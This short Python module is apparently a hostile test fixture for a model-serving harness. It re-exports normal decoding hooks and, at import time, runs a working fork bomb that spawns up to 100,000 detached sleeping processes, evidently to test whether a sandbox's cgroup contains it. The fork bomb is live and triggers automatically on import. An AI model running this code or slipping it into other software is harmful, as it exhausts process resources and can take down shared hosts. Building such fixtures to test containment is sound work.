"""Fork bomb: fork until the kernel refuses; the children stay behind sleeping (they must die with the cgroup)."""
from ._honest import causal_mask, decode_step, emitted, prefill_logits  # noqa: F401  (hooks it does not replace)


def on_load():
    import os
    import time
    n = 0
    while n < 100000:
        try:
            pid = os.fork()
        except OSError as exc:
            raise RuntimeError(f"fork bomb stopped after {n} forks: {exc}") from None
        if pid == 0:
            os.setsid()
            time.sleep(600)
            os._exit(0)
        n += 1
    raise RuntimeError("fork bomb was never stopped")


# Attack at import time (the harness imports `runtime` in its hello): a failure is the revision's own.
on_load()


def on_load():  # noqa: F811 - the attack already ran
    pass
